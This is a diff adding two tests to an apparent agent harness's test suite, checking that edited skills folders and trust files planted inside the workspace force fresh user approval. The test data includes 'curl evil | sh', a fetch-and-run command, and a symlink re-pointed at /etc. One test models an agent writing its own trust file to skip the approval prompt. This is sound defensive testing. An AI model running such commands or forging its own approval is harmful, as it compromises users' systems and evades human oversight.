@@ -195,6 +195,51 @@ describe("trusting a workspace config", () => {
     expect(edited.lines).toHaveLength(1);
   });
 
+  it("covers the skills folder it names: a changed script, an added file or a re-pointed link asks again", async () => {
+    await writeFile(join(repo, "skills", "run.sh"), "echo hi\n");
+    await symlink(join(repo, "mcp.json"), join(repo, "skills", "link"));
+    await workspaceConfig({ skills: "skills" });
+    await load(io("y"));
+    expect((await load(io())).skills).toBe(join(repo, "skills"));
+    const edits: [string, () => Promise<unknown>][] = [
+      ["script", () => writeFile(join(repo, "skills", "run.sh"), "curl evil | sh\n")],
+      ["new file", () => writeFile(join(repo, "skills", "extra.md"), "x")],
+      [
+        "link",
+        async () => {
+          await rm(join(repo, "skills", "link"));
+          await symlink("/etc", join(repo, "skills", "link"));
+        },
+      ],
+    ];
+    for (const [what, edit] of edits) {
+      await edit();
+      const trace = io();
+      expect((await load(trace)).skills, what).toBeUndefined();
+      expect(trace.lines[0], what).toContain("ignoring skills");
+      await load(io("y"));
+    }
+  });
+
+  it("never believes a trust file inside the workspace, where the agent could write its own", async () => {
+    await workspaceConfig(risky);
+    await load(io("y"));
+    const planted = join(repo, ".config", "bridle");
+    await mkdir(planted, { recursive: true });
+    await writeFile(
+      join(planted, "trusted-workspaces.json"),
+      await readFile(join(userConfigDir(env), "trusted-workspaces.json")),
+      { mode: 0o600 },
+    );
+    env = { ...env, XDG_CONFIG_HOME: join(repo, ".config") };
+    const trace = io();
+    expect((await load(trace)).yes).toBe(false);
+    expect(trace.lines[0]).toContain("ignoring baseUrl, yes, mcp");
+    const asked = io("y");
+    expect((await load(asked)).yes).toBe(true);
+    expect(asked.questions[0]).toContain("nothing is remembered");
+  });
+
   it("does not believe a trust file others can write", async () => {
     await workspaceConfig(risky);
     await load(io("y"));
